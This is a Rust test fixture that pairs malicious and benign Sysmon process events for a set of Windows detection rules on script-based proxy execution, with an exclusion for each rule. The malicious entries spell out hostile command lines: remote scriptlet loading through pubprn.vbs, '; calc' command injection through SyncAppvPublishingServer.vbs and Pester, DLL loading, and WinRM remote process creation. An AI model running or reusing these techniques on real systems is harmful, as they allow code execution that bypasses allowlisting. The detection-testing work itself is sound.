//! For each rule about the start of a process, a use of its script that is no attack beside one
//! that is, and the exclusion that should come first.

use cutout_tests::generate::quoted;

/// A process creation as Sysmon writes it: image, command line, parent, the parent's command line.
pub struct Process(&'static str, &'static str, &'static str, &'static str);

impl Process {
    pub fn event(&self) -> String {
        let Process(image, line, parent, parent_line) = self;
        let [image, line, parent, parent_line] =
            [image, line, parent, parent_line].map(|text| quoted(text));
        format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws01.example.com","Image":{image},"CommandLine":{line},"ParentImage":{parent},"ParentCommandLine":{parent_line}}}"#
        )
    }
}

pub struct Named {
    pub rule: &'static str,
    pub malicious: Process,
    pub benign: Process,
    /// Field, operator and value of what comes first.
    pub first: (&'static str, &'static str, &'static str),
}

const CSCRIPT: &str = r"C:\Windows\System32\cscript.exe";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
pub const CMD: &str = r"C:\Windows\System32\cmd.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
pub const AGENT: &str = r"C:\Program Files\Contoso\Agent\agent.exe";
pub const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

pub const NAMED: &[Named] = &[
    Named {
        rule: "pubprn.yml",
        malicious: Process(
            CSCRIPT,
            r"cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
            WORD,
            "WINWORD.EXE",
        ),
        benign: Process(
            CSCRIPT,
            r"cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs prn01 script:https://files.example.com/check.sct",
            AGENT,
            "agent.exe --audit",
        ),
        first: ("ParentImage", "eq", AGENT),
    },
    Named {
        rule: "cl_invocation.yml",
        malicious: Process(
            POWERSHELL,
            r#"powershell -c ". C:\Windows\diagnostics\system\AERO\CL_Invocation.ps1; SyncInvoke calc.exe""#,
            EXPLORER,
            "explorer.exe",
        ),
        benign: Process(
            POWERSHELL,
            r#"powershell -c ". .\CL_Invocation.ps1; SyncInvoke msdt.exe""#,
            r"C:\Program Files\Contoso\Support\support.exe",
            "support.exe /diagnose",
        ),
        first: (
            "ParentImage",
            "eq",
            r"C:\Program Files\Contoso\Support\support.exe",
        ),
    },
    Named {
        rule: "cl_loadassembly.yml",
        malicious: Process(
            POWERSHELL,
            r"powershell LoadAssemblyFromPath ..\..\..\temp\evil.dll",
            CMD,
            "cmd",
        ),
        benign: Process(
            POWERSHELL,
            r"powershell LoadAssemblyFromPath C:\Contoso\plugin.dll",
            AGENT,
            "agent.exe --plugins",
        ),
        first: ("ParentImage", "eq", AGENT),
    },
    Named {
        // The parent is what the rule looks for, so that its command line has to tell them apart.
        rule: "cl_mutexverifiers.yml",
        malicious: Process(
            POWERSHELL,
            r"powershell -nologo -windowstyle minimized -file C:\Users\eve\AppData\Local\Temp\a.ps1",
            POWERSHELL,
            "powershell . CL_MutexVerifiers.ps1; runAfterCancelProcess a.ps1",
        ),
        benign: Process(
            POWERSHELL,
            r"powershell -nologo -windowstyle minimized -file C:\Windows\Temp\contoso-report.ps1",
            POWERSHELL,
            r"powershell -file C:\Contoso\report.ps1",
        ),
        first: (
            "ParentCommandLine",
            "eq",
            r"powershell -file C:\Contoso\report.ps1",
        ),
    },
    Named {
        rule: "customshellhost.yml",
        malicious: Process(
            r"C:\Users\eve\Desktop\explorer.exe",
            "explorer.exe",
            r"C:\Windows\System32\CustomShellHost.exe",
            "CustomShellHost.exe",
        ),
        benign: Process(
            r"C:\Program Files\Contoso\Kiosk\kiosk.exe",
            "kiosk.exe",
            r"C:\Windows\System32\CustomShellHost.exe",
            "CustomShellHost.exe",
        ),
        first: ("Image", "eq", r"C:\Program Files\Contoso\Kiosk\kiosk.exe"),
    },
    Named {
        rule: "launch_vsdevshell.yml",
        malicious: Process(
            POWERSHELL,
            r"powershell C:\VS\Launch-VsDevShell.ps1 -VsWherePath C:\Users\eve\calc.exe",
            WORD,
            "WINWORD.EXE",
        ),
        benign: Process(
            POWERSHELL,
            r"powershell C:\VS\Launch-VsDevShell.ps1 -VsInstallationPath C:\VS\2022",
            r"C:\Program Files\Contoso\Runner\2.311.0\runner.exe",
            "runner.exe job",
        ),
        first: (
            "ParentImage",
            "eq",
            r"C:\Program Files\Contoso\Runner\2.311.0\runner.exe",
        ),
    },
    Named {
        rule: "manage_bde.yml",
        malicious: Process(
            WSCRIPT,
            r"wscript C:\Windows\System32\manage-bde.wsf",
            CMD,
            "cmd /c run.bat",
        ),
        benign: Process(
            WSCRIPT,
            r"wscript C:\Windows\System32\manage-bde.wsf -status",
            AGENT,
            "agent.exe --disk",
        ),
        first: ("ParentImage", "eq", AGENT),
    },
    Named {
        rule: "pester.yml",
        malicious: Process(
            CMD,
            r#"cmd /c Pester.bat /help "1; notepad""#,
            WORD,
            "WINWORD.EXE",
        ),
        benign: Process(
            POWERSHELL,
            r#"powershell -c "Get-Help Invoke-Pester""#,
            r"C:\Program Files\Contoso\Editor\editor.exe",
            "editor.exe .",
        ),
        first: (
            "ParentImage",
            "eq",
            r"C:\Program Files\Contoso\Editor\editor.exe",
        ),
    },
    Named {
        rule: "pester_child.yml",
        malicious: Process(
            r"C:\Windows\System32\calc.exe",
            "calc",
            POWERSHELL,
            r#"powershell Import-Module C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\Pester.psm1; & { Get-Help "; calc" }"#,
        ),
        benign: Process(
            r"C:\Program Files\Contoso\Git\git.exe",
            "git status",
            POWERSHELL,
            r"powershell Import-Module C:\Program Files\WindowsPowerShell\Modules\Pester\3.4.0\Pester.psm1; & { Invoke-Pester -EnableExit ; }",
        ),
        first: ("Image", "eq", r"C:\Program Files\Contoso\Git\git.exe"),
    },
    Named {
        rule: "sigverif.yml",
        malicious: Process(
            r"C:\Users\eve\AppData\Local\Temp\a.exe",
            "a.exe",
            r"C:\Windows\System32\sigverif.exe",
            "sigverif.exe",
        ),
        benign: Process(
            r"C:\Windows\System32\notepad.exe",
            r"notepad C:\Users\Public\Documents\SIGVERIF.TXT",
            r"C:\Windows\System32\sigverif.exe",
            "sigverif.exe",
        ),
        first: ("Image", "eq", r"C:\Windows\System32\notepad.exe"),
    },
    Named {
        rule: "syncappvpublishingserver.yml",
        malicious: Process(
            WSCRIPT,
            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; calc""#,
            EXPLORER,
            "explorer.exe",
        ),
        benign: Process(
            WSCRIPT,
            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "1; Sync""#,
            r"C:\Program Files\Contoso\AppV\refresh.exe",
            "refresh.exe",
        ),
        first: (
            "ParentImage",
            "eq",
            r"C:\Program Files\Contoso\AppV\refresh.exe",
        ),
    },
    Named {
        rule: "syncappvpublishingserver_splunk.yml",
        malicious: Process(
            WSCRIPT,
            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; calc""#,
            WORD,
            "WINWORD.EXE",
        ),
        benign: Process(
            WSCRIPT,
            r#"wscript C:\Windows\System32\SyncAppvPublishingServer.vbs 1"#,
            r"C:\Program Files\Contoso\AppV\refresh.exe",
            "refresh.exe",
        ),
        first: (
            "ParentImage",
            "eq",
            r"C:\Program Files\Contoso\AppV\refresh.exe",
        ),
    },
    Named {
        rule: "utilityfunctions.yml",
        malicious: Process(
            POWERSHELL,
            r#"powershell -c ". C:\Windows\diagnostics\system\Networking\UtilityFunctions.ps1; RegSnapin evil.dll""#,
            WORD,
            "WINWORD.EXE",
        ),
        benign: Process(
            POWERSHELL,
            r#"powershell -c ". C:\Contoso\UtilityFunctions.ps1""#,
            AGENT,
            "agent.exe",
        ),
        first: ("ParentImage", "eq", AGENT),
    },
    Named {
        rule: "winrm_awl_bypass.yml",
        malicious: Process(
            r"C:\Users\eve\cscript.exe",
            r"cscript winrm.vbs get wmicimv2/Win32_Process -format:pretty",
            CMD,
            "cmd",
        ),
        benign: Process(
            r"C:\Program Files\Contoso\Inventory\cscript.exe",
            r"cscript winrm.vbs get wmicimv2/Win32_BIOS -format:text",
            r"C:\Program Files\Contoso\Inventory\inventory.exe",
            "inventory.exe",
        ),
        first: (
            "Image",
            "eq",
            r"C:\Program Files\Contoso\Inventory\cscript.exe",
        ),
    },
    Named {
        rule: "winrm_remote_execution.yml",
        malicious: Process(
            CSCRIPT,
            r"cscript winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine='calc'} -r:http://192.0.2.9:5985",
            EXPLORER,
            "explorer.exe",
        ),
        benign: Process(
            CSCRIPT,
            r"cscript winrm.vbs invoke Create wmicimv2/Win32_Share -r:http://files.example.com:5985",
            r"C:\Program Files\Contoso\Deploy\deploy.exe",
            "deploy.exe",
        ),
        first: (
            "ParentImage",
            "eq",
            r"C:\Program Files\Contoso\Deploy\deploy.exe",
        ),
    },
];
